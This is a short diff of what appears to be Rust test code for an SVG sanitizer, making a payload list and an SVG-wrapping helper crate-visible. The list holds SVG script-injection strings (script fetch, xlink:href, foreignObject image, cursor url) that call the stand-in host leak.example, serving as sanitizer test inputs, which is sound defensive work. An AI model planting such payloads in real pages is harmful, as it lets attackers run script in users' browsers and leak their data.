@@ -5,7 +5,7 @@ use crate::pixel;
 use atoll_guard::svg::clean;
 
 /// What is between the first tag and the last.
-const INSIDE: &[&str] = &[
+pub(crate) const INSIDE: &[&str] = &[
     "<script>fetch('//leak.example')</script>",
     "<script xlink:href='//leak.example'/>",
     "<foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='//leak.example'/></foreignObject>",
@@ -39,7 +39,7 @@ const INSIDE: &[&str] = &[
     "<text cursor='url(//leak.example), auto'>x</text>",
 ];
 
-fn drawing(inside: &str) -> String {
+pub(crate) fn drawing(inside: &str) -> String {
     format!(
         "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><path id=\"a\" d=\"M0 0\"/>{inside}</svg>"
     )
